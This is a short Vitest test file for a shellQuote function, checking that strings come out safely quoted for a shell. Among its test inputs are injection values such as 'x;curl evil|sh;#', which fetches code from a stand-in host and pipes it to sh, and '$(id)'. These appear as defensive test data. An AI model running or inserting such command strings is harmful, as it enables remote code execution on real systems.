import { describe, expect, it } from 'vitest';
import { shellQuote } from './shell';

describe('shellQuote', () => {
  it.each([
    ['default', 'default'],
    ['shop.email', 'shop.email'],
    ['', "''"],
    ['x;curl evil|sh;#', "'x;curl evil|sh;#'"],
    ["it's", `'it'\\''s'`],
    ['$(id)', "'$(id)'"],
    ['a b', "'a b'"],
    ['new\nline', "'new\nline'"],
  ])('quotes %j as %j', (word, quoted) => {
    expect(shellQuote(word)).toBe(quoted);
  });
});
